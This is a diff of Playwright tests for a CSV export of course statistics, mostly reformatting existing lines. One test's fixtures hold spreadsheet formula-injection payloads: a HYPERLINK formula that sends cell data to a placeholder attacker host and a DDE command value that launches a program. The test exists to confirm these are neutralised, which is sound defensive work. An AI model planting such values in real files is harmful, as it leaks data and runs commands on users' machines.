@@ -44,7 +44,9 @@ test('exports exactly the rows shown and the visible columns, with a BOM, and ne
     if (STATS_PATH.test(new URL(request.url()).pathname)) requests.push(request.url());
   });
   await openSignedIn(page, '/courses/1000/stats?all=1&quick=not_passed&sort=score.desc');
-  await expect(page.getByRole('status').filter({ hasText: /^Loaded every/ })).toHaveText(ALL_LOADED, { timeout: 20_000 });
+  await expect(page.getByRole('status').filter({ hasText: /^Loaded every/ })).toHaveText(ALL_LOADED, {
+    timeout: 20_000,
+  });
   const table = statsTable(page, 1000);
 
   // An extra column, shown from the Columns menu, goes last in the file as on screen.
@@ -77,9 +79,13 @@ test('exports exactly the rows shown and the visible columns, with a BOM, and ne
   expect(scores).toEqual([...scores].sort((a, b) => b - a));
   expect(rows.every((row) => row[column('Status')] !== 'Passed')).toBe(true);
   // The same rows, in the same order, as the table's first rows.
-  const firstIds = await table.evaluate((element, index) =>
-    [...element.querySelectorAll('tbody tr[aria-rowindex]')].slice(0, 5).map((row) => row.children[index]?.textContent?.trim()),
-  column('Stat ID'));
+  const firstIds = await table.evaluate(
+    (element, index) =>
+      [...element.querySelectorAll('tbody tr[aria-rowindex]')]
+        .slice(0, 5)
+        .map((row) => row.children[index]?.textContent?.trim()),
+    column('Stat ID'),
+  );
   expect(rows.slice(0, 5).map((row) => row[column('Stat ID')])).toEqual(firstIds);
   expect(new Set(rows.map((row) => row[column('Stat ID')])).size).toBe(shown);
 
@@ -88,7 +94,9 @@ test('exports exactly the rows shown and the visible columns, with a BOM, and ne
   await expect(page.getByRole('combobox', { name: 'Delimiter' })).toHaveValue(';');
 });
 
-test('exports the rows of the page outside whole-course mode, with commas and the markup as plain text', async ({ page }) => {
+test('exports the rows of the page outside whole-course mode, with commas and the markup as plain text', async ({
+  page,
+}) => {
   await openSignedIn(page, '/courses/106/stats');
   await expect(page.getByText('Showing 6 rows on page 1.')).toBeVisible();
   await page.getByRole('combobox', { name: 'Delimiter' }).selectOption('Comma');
@@ -142,7 +150,7 @@ test('cells that a spreadsheet would run as formulas are neutralised with a lead
   });
   const body = [
     row(1, { username: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' }),
-    row(2, { username: '+1+cmd|\'/C calc\'!A0', course_session_name: '-2+3' }),
+    row(2, { username: "+1+cmd|'/C calc'!A0", course_session_name: '-2+3' }),
     row(3, { username: '@SUM(1+1)', user_email: '=1+1@example.com' }),
     row(4, { username: '\tTabbed', course_session_name: 'a=b, -c' }),
     row(5, { username: 'Анна Смирнова', course_session_name: 'Поток 1; "весна"' }),
